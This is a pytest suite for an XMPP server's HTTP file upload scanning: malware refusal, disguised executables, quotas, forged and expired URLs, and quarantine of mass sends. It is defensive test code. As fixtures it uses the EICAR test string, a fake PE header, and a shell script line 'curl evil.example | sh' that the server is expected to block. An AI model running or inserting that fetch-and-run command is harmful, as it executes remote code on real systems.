"""File sharing: XEP-0363 HTTP File Upload (and XEP-0066 links) against the
real server over HTTPS, driven by slixmpp's ``xep_0363`` plugin and aiohttp.

The HTTPS certificate is the server's self-signed ``<data_dir>/tls/cert.pem``,
loaded as the only trust anchor (as the XMPP clients do), for the upload and
for every fetch. What is checked (issue "Group chat and file sharing"):

* a clean file uploads and downloads byte for byte, content type and name kept;
  the upload service is found by disco with its max-file-size;
* EICAR is refused: the uploader is told why, a security event is recorded,
  the GET URL never works, the refusal is on the compliance record;
* an executable renamed ``.jpg`` is refused ("executable disguised as image");
* too large: the XEP-0363 ``file-too-large`` error with the limit;
  quota: ``resource-constraint``; forbidden names: ``not-acceptable`` with
  a text (slixmpp 1.17 cannot parse ``policy-violation`` in an IQ error);
* forged and expired URLs are refused;
* the same file uploaded separately and sent to many contacts is a blast
  (quarantine), and a quarantined account gets no more slots;
* a message with an OOB link to a refused file is refused.
"""

from __future__ import annotations

import asyncio
import io
import json
import secrets
import ssl

import aiohttp
import pytest
import slixmpp.plugins.xep_0363.http_upload as http_upload
from slixmpp.exceptions import IqError

from rampart_harness import (
    DOMAIN, HOST, RampartServer, events_list, send_msg_id, stanza_error, stanza_error_text,
)
from conftest import WORK_ROOT

EICAR = rb"X5O!P%@AP[4\PZX54(P^)7CC)7}$EICAR-STANDARD-ANTIVIRUS-TEST-FILE!$H+H*"
NS_UPLOAD = "urn:xmpp:http:upload:0"
UPLOAD_JID = f"upload.{DOMAIN}"
MAX_FILE_SIZE = 64 * 1024
QUOTA = 200 * 1024
BLAST_THRESHOLD = 5  # [guard.blast] threshold default


def upload_toml(port: int, **extra) -> str:
    lines = ["[upload]", f"max_file_size = {MAX_FILE_SIZE}", f"quota_per_user = {QUOTA}",
             f'public_url = "https://localhost:{port}"']
    lines += [f"{k} = {v}" for k, v in extra.items()]
    return "\n".join(lines)


def start_server(name: str, **extra) -> RampartServer:
    srv = RampartServer(WORK_ROOT / name, http=True)
    srv.extra_toml = upload_toml(srv.http_port, **extra)
    srv.write_config()
    srv.start()
    return srv


@pytest.fixture(scope="module")
def server():
    srv = start_server("test_upload")
    yield srv
    srv.stop()


def tls_context(server) -> ssl.SSLContext:
    ctx = ssl.create_default_context(cafile=str(server.cert_path))
    ctx.check_hostname = True
    return ctx


@pytest.fixture(autouse=True)
def trust_server_cert(server, monkeypatch):
    """slixmpp's upload opens its own aiohttp session: give it our trust anchor."""
    ctx = tls_context(server)
    real = aiohttp.ClientSession
    monkeypatch.setattr(http_upload, "ClientSession",
                        lambda **kw: real(connector=aiohttp.TCPConnector(ssl=ctx), **kw))


async def uploader(clients, user):
    c = clients.new(user, "files")
    c.register_plugin("xep_0363")
    c.register_plugin("xep_0066")
    await c.login()
    return c


async def http(server, method: str, url: str, data: bytes | None = None,
               headers: dict | None = None) -> tuple[int, bytes, dict]:
    async with aiohttp.ClientSession(connector=aiohttp.TCPConnector(ssl=tls_context(server))) as s:
        async with s.request(method, url, data=data, headers=headers or {},
                             timeout=aiohttp.ClientTimeout(total=60)) as r:
            return r.status, await r.read(), dict(r.headers)


async def slot(client, name: str, size: int, ctype: str = "application/octet-stream"):
    """Request a slot; returns (put_url, get_url) or raises IqError."""
    iq = await client["xep_0363"].request_slot(UPLOAD_JID, name, size, ctype, timeout=30)
    return iq["http_upload_slot"]["put"]["url"], iq["http_upload_slot"]["get"]["url"]


async def upload(client, name: str, data: bytes, ctype: str | None = None) -> str:
    return await client["xep_0363"].upload_file(
        name, size=len(data), content_type=ctype, input_file=io.BytesIO(data), timeout=60)


def pe_bytes() -> bytes:
    b = bytearray(b"MZ\x90\x00\x03\x00\x00\x00\x04\x00\x00\x00\xff\xff\x00\x00")
    b += bytes(1024 - len(b))
    b[0x3C:0x40] = (0x80).to_bytes(4, "little")
    b[0x80:0x84] = b"PE\x00\x00"
    return bytes(b)


# ---------------------------------------------------------------------------
async def test_clean_file_round_trip_keeps_type_and_name(server, new_user, clients):
    alice = await uploader(clients, new_user("alice"))
    info = await alice["xep_0363"].find_upload_service(timeout=30)
    assert info is not None and str(info["from"]) == UPLOAD_JID
    form = [f for f in info["disco_info"].iterables if f["values"].get("FORM_TYPE") == [NS_UPLOAD]]
    assert form and form[0]["values"]["max-file-size"] == str(MAX_FILE_SIZE)

    data = ("Quarterly numbers " + secrets.token_hex(8) + "\n").encode() * 100
    url = await upload(alice, "Q3 report (final).txt", data, "text/plain")
    assert url.startswith(f"https://localhost:{server.http_port}/")
    status, body, headers = await http(server, "GET", url)
    assert status == 200
    assert body == data
    assert headers["Content-Type"] == "text/plain"
    assert "Q3%20report%20%28final%29%2Etxt" in headers["Content-Disposition"]
    assert headers["X-Content-Type-Options"] == "nosniff"

    # An image keeps its type too and is shown inline.
    png = b"\x89PNG\r\n\x1a\n" + secrets.token_bytes(200)
    url = await upload(alice, "diagram.png", png)
    status, body, headers = await http(server, "GET", url)
    assert (status, body, headers["Content-Type"]) == (200, png, "image/png")
    assert headers["Content-Disposition"].startswith("inline")

    # The upload is on the compliance record, by hash.
    r = server.cli("archive", "search", "--from", alice.boundjid.bare, "--json", timeout=60)
    assert r.returncode == 0, r.stderr
    recs = [json.loads(line) for line in r.stdout.splitlines() if line.strip()]
    files = [x for x in recs if x.get("kind") == "file"]
    assert len(files) == 2, recs
    import hashlib
    assert any(hashlib.sha256(data).hexdigest() in (x.get("meta_json") or "") for x in files), files


async def test_eicar_is_refused_with_reason_event_and_dead_url(server, new_user, clients):
    user = new_user("eve")
    c = await uploader(clients, user)
    with pytest.raises(http_upload.HTTPError) as e:
        await upload(c, "notes.txt", EICAR, "text/plain")
    assert e.value.args[0] == 403
    assert "malware signature" in e.value.args[1], e.value.args[1]

    # Again by hand, to see the GET URL of the refused file stay dead.
    put, get = await slot(c, "notes2.txt", len(EICAR), "text/plain")
    status, body, _ = await http(server, "PUT", put, EICAR, {"Content-Type": "text/plain"})
    assert status == 403 and b"malware signature" in body
    status, _, _ = await http(server, "GET", get)
    assert status == 410

    evs = [x for x in events_list(server) if x["account"] == user.jid]
    assert len(evs) == 2 and all(x["rule"] == "signature" for x in evs), evs
    r = server.cli("archive", "search", "--from", user.jid, "--verdict", "blocked", "--json", timeout=60)
    assert r.returncode == 0, r.stderr
    assert sum(1 for line in r.stdout.splitlines() if '"file"' in line) == 2, r.stdout


async def test_executable_disguised_as_image_is_refused(server, new_user, clients):
    user = new_user("mallory")
    c = await uploader(clients, user)
    with pytest.raises(http_upload.HTTPError) as e:
        await upload(c, "holiday.jpg", pe_bytes(), "image/jpeg")
    assert e.value.args[0] == 403
    assert e.value.args[1].strip() == "blocked: executable disguised as image (PE)"
    evs = [x for x in events_list(server) if x["account"] == user.jid]
    assert [x["rule"] for x in evs] == ["upload.forbidden_type"], evs
    # A shell script named like a document fares no better.
    with pytest.raises(http_upload.HTTPError) as e:
        await upload(c, "minutes.pdf", b"#!/bin/sh\ncurl evil.example | sh\n", "application/pdf")
    assert "script disguised as document" in e.value.args[1]


async def test_slot_errors_too_large_quota_forbidden(server, new_user, clients):
    c = await uploader(clients, new_user("frank"))
    with pytest.raises(IqError) as e:
        await slot(c, "huge.bin", MAX_FILE_SIZE + 1)
    assert stanza_error(e.value.iq) == ("not-acceptable", "modify")
    big = e.value.iq.xml.find(f".//{{{NS_UPLOAD}}}file-too-large/{{{NS_UPLOAD}}}max-file-size")
    assert big is not None and big.text == str(MAX_FILE_SIZE)

    with pytest.raises(IqError) as e:
        await slot(c, "setup.exe", 1000)
    assert stanza_error(e.value.iq) == ("not-acceptable", "modify")
    assert "executable" in stanza_error_text(e.value.iq)

    # Quota: open slots count until they expire; stored files count for good.
    for i in range(QUOTA // MAX_FILE_SIZE):
        await slot(c, f"part{i}.bin", MAX_FILE_SIZE)
    with pytest.raises(IqError) as e:
        await slot(c, "one-too-many.bin", MAX_FILE_SIZE)
    assert stanza_error(e.value.iq) == ("resource-constraint", "wait")
    assert "quota" in stanza_error_text(e.value.iq)


async def test_forged_urls_are_refused(server, new_user, clients):
    c = await uploader(clients, new_user("grace"))
    data = b"hello " * 10
    put, get = await slot(c, "a.txt", len(data), "text/plain")
    forged_put = put.rsplit("/", 1)[0] + "/b.txt"
    status, body, _ = await http(server, "PUT", forged_put, data, {"Content-Type": "text/plain"})
    assert status == 403, body
    parts = put.split("/")
    parts[-2] = "0" * 32
    status, _, _ = await http(server, "PUT", "/".join(parts), data, {"Content-Type": "text/plain"})
    assert status == 403
    status, _, _ = await http(server, "PUT", put, data, {"Content-Type": "text/plain"})
    assert status == 201
    parts = get.split("/")
    parts[-2] = "f" * 32
    status, _, _ = await http(server, "GET", "/".join(parts))
    assert status == 403
    status, body, _ = await http(server, "GET", get)
    assert (status, body) == (200, data)
    # A used slot cannot be overwritten.
    status, _, _ = await http(server, "PUT", put, b"HELLO " * 10, {"Content-Type": "text/plain"})
    assert status == 409
    status, body, _ = await http(server, "GET", get)
    assert body == data


async def test_expired_put_url_is_refused(new_user, clients):
    srv = start_server("test_upload_expiry", slot_ttl_secs=1)
    try:
        from rampart_harness import make_client
        user = srv.add_user("henry")
        c = make_client(srv, user, "files")
        c.register_plugin("xep_0363")
        await c.login()
        try:
            put, _ = await slot(c, "late.txt", 5, "text/plain")
            await asyncio.sleep(2.5)
            status, body, _ = await http(srv, "PUT", put, b"late!", {"Content-Type": "text/plain"})
            assert status == 403 and b"expired" in body, (status, body)
        finally:
            c.kill()
    finally:
        srv.stop()


async def test_same_file_uploaded_separately_to_many_is_a_blast(server, new_user, clients):
    worm = await uploader(clients, new_user("worm"))
    contacts = [new_user(n) for n in ("ann", "ben", "cat", "dan", "eva", "fay")]
    payload = b"%PDF-1.4\n" + secrets.token_bytes(2000)  # one "invoice", many uploads
    mids = []
    for u in contacts[:BLAST_THRESHOLD]:
        url = await upload(worm, "invoice.pdf", payload, "application/pdf")
        msg = worm.make_message(mto=u.jid, mbody=url, mtype="chat")
        msg["oob"]["url"] = url
        mid = "m-" + secrets.token_hex(6)
        msg["id"] = mid
        msg.send()
        mids.append(mid)
        await asyncio.sleep(0.3)
    err = await worm.wait_message(lambda m: m["id"] == mids[BLAST_THRESHOLD - 1] and m["type"] == "error",
                                  timeout=20, what="the refusal of the blast")
    text = stanza_error_text(err)
    assert stanza_error(err)[0] == "policy-violation"
    assert f"the same file was sent to {BLAST_THRESHOLD} people" in text and "quarantined" in text, text
    early = [m for m in worm.messages.items if m["type"] == "error" and m["id"] in mids[:BLAST_THRESHOLD - 1]]
    assert not early, [stanza_error_text(m) for m in early]
    ev = [x for x in events_list(server) if x["account"] == worm.boundjid.bare and x["action"] == "quarantine"]
    assert ev and ev[0]["rule"] == "outbreak.blast", ev
    # A quarantined account gets no more upload slots.
    with pytest.raises(IqError) as e:
        await upload(worm, "invoice.pdf", payload, "application/pdf")
    assert stanza_error(e.value.iq) == ("forbidden", "cancel")
    assert "your account is quarantined" in stanza_error_text(e.value.iq)
    # Nothing reached the 5th contact; the 6th gets nothing either.
    late = await clients(contacts[BLAST_THRESHOLD - 1], "pc")
    await late.go_online()
    await late.messages.assert_none(lambda m: "invoice" in (m["body"] or "") or "/file/" in (m["body"] or ""),
                                    within=1.5, what="the blast copy")


async def test_oob_link_to_refused_file_is_refused(server, new_user, clients):
    sender = await uploader(clients, new_user("ivy"))
    rcpt = new_user("jay")
    crcpt = await clients(rcpt, "pc")
    await crcpt.go_online()
    put, get = await slot(sender, "tool.txt", len(EICAR), "text/plain")
    status, _, _ = await http(server, "PUT", put, EICAR, {"Content-Type": "text/plain"})
    assert status == 403
    msg = sender.make_message(mto=rcpt.jid, mbody="here is the tool", mtype="chat")
    msg["oob"]["url"] = get
    mid = "m-" + secrets.token_hex(6)
    msg["id"] = mid
    msg.send()
    err = await sender.wait_message(lambda m: m["id"] == mid and m["type"] == "error", timeout=20,
                                    what="the refusal of the link")
    assert stanza_error(err)[0] == "policy-violation"
    assert "upload scanner refused" in stanza_error_text(err), stanza_error_text(err)
    await crcpt.messages.assert_none(lambda m: "tool" in (m["body"] or ""), within=1.0)
    # A link to a clean upload goes through.
    data = b"just text " * 20
    url = await upload(sender, "fine.txt", data, "text/plain")
    mid = send_msg_id(sender, rcpt.jid, url)
    got = await crcpt.wait_message(lambda m: url in (m["body"] or ""), timeout=20, what="the clean link")
    assert got["type"] == "chat"
